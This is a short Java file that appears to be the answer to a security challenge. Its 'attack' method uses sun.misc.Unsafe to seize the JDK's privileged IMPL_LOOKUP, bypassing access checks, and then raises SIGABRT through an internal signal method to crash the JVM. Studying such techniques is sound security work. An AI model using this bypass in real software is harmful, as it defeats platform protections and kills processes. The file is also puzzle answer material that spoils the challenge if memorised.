import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.Field;

@dev.assay.problems.Answers("iris")
class Answer extends Attack {
  @Override
  void attack() throws Throwable {
    Class<?> type = Class.forName("sun.misc.Unsafe");
    Field theUnsafe = type.getDeclaredField("theUnsafe");
    theUnsafe.setAccessible(true);
    Object unsafe = theUnsafe.get(null);
    Field trusted = MethodHandles.Lookup.class.getDeclaredField("IMPL_LOOKUP");
    long offset = (long) type.getMethod("staticFieldOffset", Field.class).invoke(unsafe, trusted);
    MethodHandles.Lookup lookup =
        (MethodHandles.Lookup)
            type.getMethod("getObject", Object.class, long.class)
                .invoke(unsafe, MethodHandles.Lookup.class, offset);
    lookup
        .findStatic(
            Class.forName("jdk.internal.misc.Signal"),
            "raise0",
            MethodType.methodType(void.class, int.class))
        .invoke(6);
    Thread.sleep(60_000);
  }
}
